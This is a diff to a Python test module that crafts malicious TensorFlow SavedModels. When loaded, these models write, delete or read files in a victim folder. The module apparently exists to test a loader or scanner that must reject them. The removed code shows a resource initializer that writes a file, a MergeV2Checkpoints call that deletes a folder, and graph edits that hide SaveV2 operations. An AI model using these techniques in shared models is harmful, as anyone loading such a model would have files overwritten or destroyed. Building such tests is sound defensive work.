@@ -1,7 +1,7 @@
 """Crafted versions: SavedModels that touch files where a version must not, with right hashes.
 
 Each attack writes a version into a folder. The version would write `new` into the victim's folder,
-delete that folder, or read the checkpoint `part` there. Some use TensorFlow's own means; an edit
+or read the checkpoint `part` there. Some use TensorFlow's own means; an edit
 changes the graph of a harmless version.
 """
 
@@ -74,27 +74,6 @@ def save_in_object(path: Path, victim: Path) -> None:
     save(module, path, lambda seed: 0)
 
 
-class Resource(tf.saved_model.experimental.TrackableResource):
-    """A resource whose initialization writes a file; a loader initializes all resources."""
-
-    def __init__(self, victim: Path, variable: tf.Variable):
-        super().__init__()
-        self.victim, self.variable = victim, variable
-
-    def _create_resource(self) -> tf.Tensor:
-        return tf.raw_ops.VarHandleOp(dtype=tf.float32, shape=[], shared_name="resource")
-
-    def _initialize(self) -> None:
-        self.variable.assign(tf.cast(write_file(self.victim), tf.float32))
-
-
-def save_in_initializer(path: Path, victim: Path) -> None:
-    module = tf.Module()
-    module.variable = tf.Variable(0.0)
-    module.resource = Resource(victim, module.variable)
-    save(module, path, lambda seed: 0)
-
-
 def save_in_gradient(path: Path, victim: Path) -> None:
     @tf.custom_gradient
     def identity(x: tf.Tensor) -> Any:
@@ -105,21 +84,6 @@ def save_in_gradient(path: Path, victim: Path) -> None:
         identity, input_signature=[tf.TensorSpec([], tf.float32)], autograph=False
     )
     save(module, path, lambda seed: 0, experimental_custom_gradients=True)
-
-
-def delete_in_signature(path: Path, victim: Path) -> None:
-    """Merges the victim's checkpoint, and deletes that folder."""
-
-    def delete(seed: tf.Tensor) -> tf.Tensor:
-        operation = tf.raw_ops.MergeV2Checkpoints(
-            checkpoint_prefixes=[str(victim / "part")],
-            destination_prefix=str(victim.parent / "merged"),
-            delete_old_dirs=True,
-        )
-        with tf.control_dependencies([operation]):
-            return tf.constant(0) + 0
-
-    save(tf.Module(), path, delete)
 
 
 def restore_in_signature(path: Path, victim: Path) -> None:
@@ -139,9 +103,7 @@ HARMFUL: dict[str, Attack] = {
     for craft in (
         save_in_branch,
         save_in_object,
-        save_in_initializer,
         save_in_gradient,
-        delete_in_signature,
         restore_in_signature,
     )
 }
@@ -195,25 +157,8 @@ def save_in_restoring(meta: Any, victim: Path) -> None:
     restoring.signature.control_output.append("evil")
 
 
-def save_in_unused_function(meta: Any, victim: Path) -> None:
-    unused = meta.graph_def.library.function.add()
-    unused.signature.name = "unused"
-    unused.node_def.add(name="evil", op="SaveV2")
-
-
 def call_saving(meta: Any, victim: Path) -> None:
     add_call(meta)
-
-
-def call_saving_by_name(meta: Any, victim: Path) -> None:
-    """The older way to call a function: its name is the operation."""
-    add_call(meta).op = save_name(meta)
-
-
-def call_saving_in_attributes_of_a_function(meta: Any, victim: Path) -> None:
-    call = add_call(meta)
-    call.attr["f"].func.name = function(meta, "signature_wrapper").signature.name
-    call.attr["f"].func.attr["inner"].func.name = save_name(meta)
 
 
 def run_saving_by_signature(meta: Any, victim: Path) -> None:
@@ -301,10 +246,7 @@ def other_form(path: Path, victim: Path) -> None:
 
 EDITS = (
     save_in_restoring,
-    save_in_unused_function,
     call_saving,
-    call_saving_by_name,
-    call_saving_in_attributes_of_a_function,
     run_saving_by_signature,
     run_saving_by_initialization,
     run_saving_by_restoring,
